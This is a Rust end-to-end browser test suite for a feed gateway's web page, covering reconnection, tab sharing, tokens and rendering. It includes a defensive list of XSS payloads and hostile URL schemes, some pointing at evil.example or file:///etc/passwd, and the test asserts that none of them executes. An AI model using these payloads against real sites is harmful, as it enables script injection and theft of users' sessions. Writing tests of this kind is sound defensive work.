//! The built-in page in a real browser.
#![expect(clippy::unwrap_used, reason = "a test says what is wrong by panicking")]

use std::{sync::Arc, time::Duration};

use e2e::{Behaviour, Binary, Browser, DocumentFormat, Origin, TestSource, TestStack, wait_for};
use serde_json::{Value, json};

/// Deadline for a change at the gateway to be visible on the page.
const SHOWN: Duration = Duration::from_secs(60);
/// Deadline for the page to reconnect after a gateway was killed: the delay of the browser, then ours.
const RECONNECTED: Duration = Duration::from_secs(90);

/// Titles on the page, newest first.
const TITLES: &str = "return [...document.querySelectorAll('#items-list .title')].map((t) => t.textContent);";
const STATE: &str = "return document.getElementById('pill-stream-text').textContent;";

/// Attempts of a feed to run a script. Each would call `pwn`, which counts the calls.
const PAYLOADS: [&str; 28] = [
    "<script>pwn()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>pwn()</script>",
    "</article></li></ol><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=\"pwn()\" x=",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:pwn()\"><text>x</text></a></svg>",
    "<body onload=pwn()>",
    "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwn()\"></iframe>",
    "<details open ontoggle=pwn()>x</details>",
    "<input autofocus onfocus=pwn()>",
    "<a href=\"javascript:pwn()\">x</a>",
    "<a href=\"&#106;avascript:pwn()\">x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=pwn()>",
    "<form><button formaction=javascript:pwn()>x</button></form>",
    "<object data=\"javascript:pwn()\"></object>",
    "<style>@import 'javascript:pwn()';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">",
    "<base href=//evil.example/>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwn()&amp;gt;",
    "\" onmouseover=\"pwn()\" '",
    "\u{202e}<script>pwn()</script>\u{2066}evil\u{2069}",
];

/// URLs that must not become links.
const LINKS: [&str; 12] = [
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "\u{1}javascript:pwn()",
    "javascript://evil.example/%0Apwn()",
    "data:text/html,<script>opener.pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduKCk8L3NjcmlwdD4=",
    "vbscript:pwn()",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
];

/// Everything on the page that could run, navigate, or be an element from a feed.
const ACTIVE: &str = "
    const ours = ['LI', 'TIME', 'ARTICLE', 'P', 'BDI', 'SPAN', 'CODE', 'H3', 'A'];
    const nodes = [...document.querySelectorAll('*')];
    return [
        ...[...document.querySelectorAll('#items-list *')].filter((n) => !ours.includes(n.tagName)),
        ...document.querySelectorAll('iframe, object, embed, base, style, math, form:not([id]), script:not([src])'),
        ...nodes.filter((n) => n.parentNode.id !== 'sources-share' && n.getAttributeNames().some((name) => /^on|^style$|^srcdoc$/i.test(name))),
        ...[...document.querySelectorAll('#items-list a')].filter((a) => !/^https?:$/.test(a.protocol)),
        ...document.querySelectorAll('script[src]:not([src=\"/assets/app.js\"])'),
    ].map((n) => n.outerHTML.slice(0, 200));";

/// Defines `pwn` in the page.
const DEFINE_PWN: &str = "window.pwned = 0; window.pwn = () => { window.pwned += 1; };";

/// Opens the page of a running stack in a browser; `None` if no browser is installed.
async fn open(stack: &TestStack) -> anyhow::Result<Option<Browser>> {
    let Some(browser) = Browser::start().await? else { return Ok(None) };
    browser.open(&page(stack)).await?;
    browser.run(DEFINE_PWN).await?;
    browser.wait("the stream to open", SHOWN, &format!("{} === 'open'", expression(STATE))).await?;
    Ok(Some(browser))
}

fn page(stack: &TestStack) -> String {
    match stack.gateway() {
        e2e::http::Address::Tcp(address) => format!("http://{address}/"),
        e2e::http::Address::Unix(_) => unreachable!("the gateway listens on TCP"),
    }
}

/// `return X;` without its end, to be continued.
fn expression(script: &str) -> &str {
    script.trim_end_matches(';')
}

/// The titles on the page that begin with `beginning`.
async fn titles(browser: &Browser, beginning: &str) -> anyhow::Result<Vec<String>> {
    let all = browser.run(TITLES).await?;
    let all = all.as_array().into_iter().flatten().filter_map(Value::as_str);
    Ok(all.filter(|title| title.starts_with(beginning)).map(str::to_owned).collect())
}

/// Waits until the page shows the title.
async fn shows(browser: &Browser, title: &str) -> anyhow::Result<()> {
    let script = format!("{}.includes({})", expression(TITLES), json!(title));
    browser.wait(&format!("{title:?} on the page"), SHOWN, &script).await.map(drop)
}

/// The console has only the messages of Chromium about an unreachable server.
async fn assert_quiet_console(browser: &Browser) -> anyhow::Result<()> {
    let lines = browser.console().await?;
    let loud: Vec<_> = lines.iter().filter(|(_, source, _)| source != "network").collect();
    anyhow::ensure!(loud.is_empty(), "the console: {loud:#?}");
    let refused: Vec<_> = lines.iter().filter(|(.., text)| text.contains("status of 4")).collect();
    anyhow::ensure!(refused.is_empty(), "the console: {refused:#?}");
    Ok(())
}

#[tokio::test]
async fn items_appear_exactly_once_even_after_the_gateway_was_killed() {
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 3)).unwrap();
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    let mut wanted = Vec::new();
    for number in 0..6 {
        let title = format!("Before {number}");
        origin.publish(&format!("feed-{}", number % 3), &title);
        shows(&browser, &title).await.unwrap();
        wanted.push(title);
    }
    assert_quiet_console(&browser).await.unwrap();

    stack.kill(Binary::Gateway).unwrap();
    let fell = format!("{} !== 'open'", expression(STATE));
    browser.wait("the page to notice", SHOWN, &fell).await.unwrap();
    for number in 0..6 {
        let title = format!("Between {number}");
        origin.publish(&format!("feed-{}", number % 3), &title);
        wanted.push(title);
    }
    stack.start(Binary::Gateway).unwrap();
    stack.wait_ready().await.unwrap();
    browser
        .wait("the page to reconnect", RECONNECTED, &format!("{} === 'open'", expression(STATE)))
        .await
        .unwrap();
    let exact = "return document.getElementById('connection-resume').textContent.startsWith('exact');";
    browser.wait("an exact resumption", SHOWN, exact).await.unwrap();
    origin.publish("feed-0", "Between and after: the last");
    shows(&browser, "Between and after: the last").await.unwrap();
    wanted.push("Between and after: the last".to_owned());

    let mut shown = titles(&browser, "Be").await.unwrap();
    shown.sort();
    wanted.sort();
    assert_eq!(shown, wanted);
    let duplicates = browser
        .run("return (await import('/assets/connection.js')).connection.received.duplicates;")
        .await
        .unwrap();
    assert_eq!(duplicates, 0);
    assert_quiet_console(&browser).await.unwrap();
}

#[tokio::test]
async fn a_hostile_item_is_rendered_as_text_only() {
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&[]).unwrap();
    stack.write_catalogue(&hostile_feeds(&origin, &stack).unwrap()).unwrap();
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    let count = PAYLOADS.len() + LINKS.len();
    let arrived = "return (await import('/assets/connection.js')).connection.received.item";
    browser.wait("the hostile items", SHOWN, &format!("{arrived} === {count};")).await.unwrap();
    assert_inert(&browser, count).await.unwrap();

    // The feed pipeline has already removed the payloads; the page must be safe by itself.
    browser.run("(await import('/assets/items.js')).items.clear();").await.unwrap();
    let raw: Vec<_> = raw_items().collect();
    let script = format!(
        "const {{ items }} = await import('/assets/items.js');
         for (const item of {}) items.arrive({{ item, kind: 'update', live: true }});",
        json!(raw)
    );
    browser.run(&script).await.unwrap();
    let drawn = format!("return document.querySelectorAll('#items-list .item').length === {};", raw.len());
    browser.wait("the raw items", SHOWN, &drawn).await.unwrap();
    let mut shown = titles(&browser, "").await.unwrap();
    shown.reverse();
    let sent: Vec<_> = raw.iter().map(|item| item["title"].as_str().unwrap().trim().to_owned()).collect();
    assert_eq!(shown, sent, "every character is shown");
    let links = browser.run("return document.querySelectorAll('#items-list a').length;").await.unwrap();
    assert_eq!(links, 0, "no links");
    assert_inert(&browser, raw.len()).await.unwrap();
    assert_quiet_console(&browser).await.unwrap();
}

/// Clicks everything, waits, and checks that nothing has run.
async fn assert_inert(browser: &Browser, count: usize) -> anyhow::Result<()> {
    let press = "for (const n of document.querySelectorAll('#items-list *')) {
        n.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        if (n.tagName !== 'A') n.click();
    }
    await new Promise((done) => setTimeout(done, 300));";
    browser.run(press).await?;
    let drawn = browser.run("return document.querySelectorAll('#items-list .item').length;").await?;
    assert_eq!(drawn, count);
    assert_eq!(browser.run(ACTIVE).await?, json!([]));
    assert_eq!(browser.run("return window.pwned;").await?, 0, "a script of the feed ran");
    Ok(())
}

/// A JSON Feed, where every character of a title is text, with every payload and link.
fn hostile_feeds(origin: &Origin, stack: &TestStack) -> anyhow::Result<Vec<TestSource>> {
    let entries: Vec<_> = raw_items()
        .map(|item| {
            json!({
                "id": item["id"], "url": item["link"], "title": item["title"],
                "summary": item["summary"], "content_html": item["summary"], "image": item["link"],
                "authors": [{ "name": item["title"], "url": item["link"] }], "tags": [item["title"]],
            })
        })
        .collect();
    let feed = json!({
        "version": "https://jsonfeed.org/version/1.1", "title": PAYLOADS[0],
        "home_page_url": LINKS[0], "items": entries,
    });
    let file = stack.path("hostile.json");
    std::fs::write(&file, feed.to_string())?;
    Ok(vec![TestSource::new("hostile", origin.add_file(&file)?)])
}

/// Items as no real gateway sends them: a payload wherever the page shows text.
fn raw_items() -> impl Iterator<Item = Value> {
    let payloads = PAYLOADS.iter().map(|payload| ((*payload).to_owned(), "javascript:pwn()"));
    let links = LINKS.iter().map(|link| (format!("A link to {link:?}"), *link));
    payloads.chain(links).enumerate().map(|(number, (text, link))| {
        json!({
            "id": format!("raw-{number}"), "key": number, "source": text, "source_name": text, "title": text,
            "category": text, "country": text, "language": text, "summary": text, "link": link,
            "published": text, "first_seen": text,
        })
    })
}

#[tokio::test]
async fn only_the_failing_source_is_shown_as_failing() {
    let origin = Origin::start().await.unwrap();
    let sources =
        ["good", "bad"].map(|name| TestSource::new(name, origin.add_feed(name, DocumentFormat::Rss)));
    let mut stack = TestStack::new(&sources).unwrap();
    origin.set_behaviour("bad", Behaviour::Status(500, Vec::new()));
    origin.publish("good", "All is well");
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    let rows = "const rows = [...document.querySelectorAll('#sources-list .source')].map((row) =>
        [row.querySelector('.name').textContent, row.dataset.tone, row.querySelector('.status').textContent]);";
    let settled =
        format!("{rows} return rows.length === 2 && rows[0][1] === 'bad' && rows[1][1] === 'ok' && rows;");
    let rows = browser.wait("one row to be bad", SHOWN, &settled).await.unwrap();
    assert_eq!((&rows[0][0], &rows[0][2]), (&json!("Source bad"), &json!("failed")), "the worst comes first");
    assert_eq!(rows[1][0], "Source good");
    let trouble = "return document.querySelector('.source[data-tone=bad] .trouble').textContent;";
    let trouble = browser.run(trouble).await.unwrap();
    assert!(trouble.as_str().is_some_and(|t| t.contains("500") && t.contains("in a row")), "{trouble}");
    let pill = browser.run("return document.getElementById('pill-sources-text').textContent;").await.unwrap();
    assert_eq!(pill, "1 failing");
    let bars = "return document.querySelectorAll('.source[data-tone=ok] .spark:not(.none)').length;";
    browser.wait("the line of items an hour", SHOWN, bars).await.unwrap();
    assert_quiet_console(&browser).await.unwrap();
}

#[tokio::test]
async fn delivery_rate_and_lag_of_the_slowest_client_are_shown() {
    let origin = Arc::new(Origin::start().await.unwrap());
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 1)).unwrap();
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    (0..40).for_each(|number| drop(origin.publish("feed-0", &format!("Item {number}"))));
    shows(&browser, "Item 39").await.unwrap();
    let rate = "return document.getElementById('gateway-deliveries').textContent.match(/^[1-9.]+[0-9.]* per second$/)?.[0];";
    // Until the page has looked twice at the gateway's counter, which must have grown in between.
    let publisher = e2e::scenario::FeedPublisher::start(Arc::clone(&origin), 1);
    browser.wait("the deliveries to be measured", RECONNECTED, rate).await.unwrap();
    publisher.stop().await;
    let shown = "const shown = ['lag', 'clients', 'brief'].map((name) => document.getElementById(`gateway-${name}`).textContent);
        return shown[0] === 'up to date' && shown[1] === '1' && shown[2].endsWith('none behind');";
    browser.wait("a client that is up to date", SHOWN, shown).await.unwrap();

    // The page shows a lagging client as soon as the gateway reports one.
    let behind = "const real = window.fetch;
        window.fetch = async (path, wish) => {
            const answer = await real(path, wish);
            const body = await answer.json();
            return new Response(JSON.stringify({ ...body, lag_events_max: 1200 }), { headers: answer.headers });
        };
        await (await import('/assets/gateway.js')).updateGateway();
        return ['lag', 'brief'].map((name) => document.getElementById(`gateway-${name}`).textContent);";
    let shown = browser.run(behind).await.unwrap();
    assert_eq!(shown[0], "1,200\u{a0}events behind", "{shown}");
    assert!(shown[1].as_str().is_some_and(|brief| brief.ends_with("the slowest 1,200 behind")), "{shown}");
    assert_quiet_console(&browser).await.unwrap();
}

#[tokio::test]
async fn b27_eight_tabs_share_one_stream_and_another_takes_over_when_its_owner_closes() {
    const TABS: usize = 8;
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 1)).unwrap();
    origin.publish("feed-0", "Item 0");
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    let mut tabs = vec![browser.tab().await.unwrap()];
    for _ in 1..TABS {
        tabs.push(browser.new_tab().await.unwrap());
        browser.open(&page(&stack)).await.unwrap();
        shows(&browser, "Item 0").await.unwrap();
    }
    origin.publish("feed-0", "Item 1");
    shows(&browser, "Item 1").await.unwrap();
    one_client(&stack, TABS).await;

    browser.switch_to(&tabs.remove(0)).await.unwrap();
    browser.close_tab().await.unwrap();
    origin.publish("feed-0", "Item 2");
    assert_all_show(&browser, &tabs, &["Item 2", "Item 1", "Item 0"]).await.unwrap();
    one_client(&stack, tabs.len()).await;

    stack.kill(Binary::Gateway).unwrap();
    origin.publish("feed-0", "Item 3");
    stack.start(Binary::Gateway).unwrap();
    stack.wait_ready().await.unwrap();
    let open = format!("{} === 'open'", expression(STATE));
    browser.wait("the page to reconnect", RECONNECTED, &open).await.unwrap();
    assert_all_show(&browser, &tabs, &["Item 3", "Item 2", "Item 1", "Item 0"]).await.unwrap();
    one_client(&stack, tabs.len()).await;

    // A different filter needs another stream.
    browser.open(&format!("{}#q=2", page(&stack))).await.unwrap();
    browser
        .wait("the filtered item", SHOWN, &format!("{}[0] === 'Item 2'", expression(TITLES)))
        .await
        .unwrap();
    assert_eq!(titles(&browser, "Item").await.unwrap(), ["Item 2"]);
    assert_quiet_console(&browser).await.unwrap();
}

/// Waits until the gateway has one stream: a closed one is noticed a little later, a second one would stay.
async fn one_client(stack: &TestStack, tabs: usize) {
    wait_for(&format!("{tabs} tabs to share one stream"), SHOWN, async || {
        (stack.json("/health").await.ok()?["clients"] == 1).then_some(())
    })
    .await
    .unwrap();
}

/// Each tab shows the titles, newest first, each once.
async fn assert_all_show(browser: &Browser, tabs: &[String], wanted: &[&str]) -> anyhow::Result<()> {
    for tab in tabs {
        browser.switch_to(tab).await?;
        shows(browser, wanted[0]).await?;
        assert_eq!(titles(browser, "Item").await?, wanted);
        let received =
            browser.run("return (await import('/assets/connection.js')).connection.received;").await?;
        assert_eq!(received["duplicates"], 0, "{received}");
        assert_eq!(received["item"], wanted.len(), "{received}");
    }
    Ok(())
}

#[tokio::test]
async fn the_page_check_finds_no_problem_with_its_gateway() {
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 1)).unwrap();
    stack.set("gateway.heartbeat", "\"1s\"");
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    browser.run("document.getElementById('doctor-start').click();").await.unwrap();
    let done = "return !document.getElementById('doctor-start').disabled
        && [...document.querySelectorAll('#doctor-findings dd')].map((dd) => [dd.dataset.tone, dd.textContent]);";
    let findings = browser.wait("the findings", RECONNECTED, done).await.unwrap();
    let findings = findings.as_array().unwrap();
    assert_eq!(findings.len(), 4, "{findings:?}");
    assert!(findings.iter().all(|finding| finding[0] == "ok"), "{findings:?}");
    assert!(findings[0][1].as_str().unwrap().starts_with("none: first bytes after"), "{findings:?}");
    assert_quiet_console(&browser).await.unwrap();
}

#[tokio::test]
async fn a_stream_that_needs_a_token_says_so_and_opens_once_it_has_one() {
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 1)).unwrap();
    let tokens = stack.path("tokens.toml");
    let token = "[[token]]\nname = \"a\"\ntoken = \"a-token-0123456789\"\ncategories = \"all\"\n";
    std::fs::write(&tokens, token).unwrap();
    stack.set("gateway.read_tokens_file", &format!("{:?}", tokens.display().to_string()));
    origin.publish("feed-0", "Item 0");
    stack.start_both().await.unwrap();
    let Some(browser) = Browser::start().await.unwrap() else { return };
    browser.open(&page(&stack)).await.unwrap();
    let words = |id: &str, words: &str| {
        format!("return document.getElementById('{id}').textContent.includes('{words}');")
    };
    browser.wait("the reason", SHOWN, &words("connection-sentence", "a token is required")).await.unwrap();
    browser.wait("the reason", SHOWN, &words("items-empty", "a token is required")).await.unwrap();
    // As the session route would set it, but without HttpOnly, which a script cannot set.
    let show = async |token: &str| {
        let script = format!(
            "document.cookie = 'newswire_read={token}'; (await import('/assets/connection.js')).connection.reopen();"
        );
        browser.run(&script).await.unwrap()
    };
    show("wrong-token-0123456789").await;
    browser
        .wait("the reason", SHOWN, &words("connection-sentence", "another token is required"))
        .await
        .unwrap();
    show("a-token-0123456789").await;
    shows(&browser, "Item 0").await.unwrap();
}

#[tokio::test]
async fn a_stream_closed_by_the_browser_is_reopened_from_its_last_event_id() {
    let origin = Origin::start().await.unwrap();
    let mut stack = TestStack::new(&e2e::scenario::feeds(&origin, 1)).unwrap();
    origin.publish("feed-0", "Item 0");
    stack.start_both().await.unwrap();
    let Some(browser) = open(&stack).await.unwrap() else { return };
    shows(&browser, "Item 0").await.unwrap();
    // /health is not an event stream: for an EventSource that is final, like a 503 of a proxy.
    let give_up = "const { connection } = await import('/assets/connection.js');
        const Real = EventSource;
        window.EventSource = function () { window.EventSource = Real; return new Real('/health'); };
        window.EventSource.CLOSED = Real.CLOSED;
        connection.connect(connection.lastId);";
    browser.run(give_up).await.unwrap();
    let waits = format!("{} === 'waiting'", expression(STATE));
    browser.wait("the page to wait before it reconnects", SHOWN, &waits).await.unwrap();
    origin.publish("feed-0", "Item 1");
    shows(&browser, "Item 1").await.unwrap();
    let resumed = "return document.getElementById('connection-resume').textContent;";
    let resumed = browser.run(resumed).await.unwrap();
    assert!(resumed.as_str().is_some_and(|words| words.starts_with("exact")), "{resumed}");
    assert_eq!(titles(&browser, "Item").await.unwrap(), ["Item 1", "Item 0"]);
}
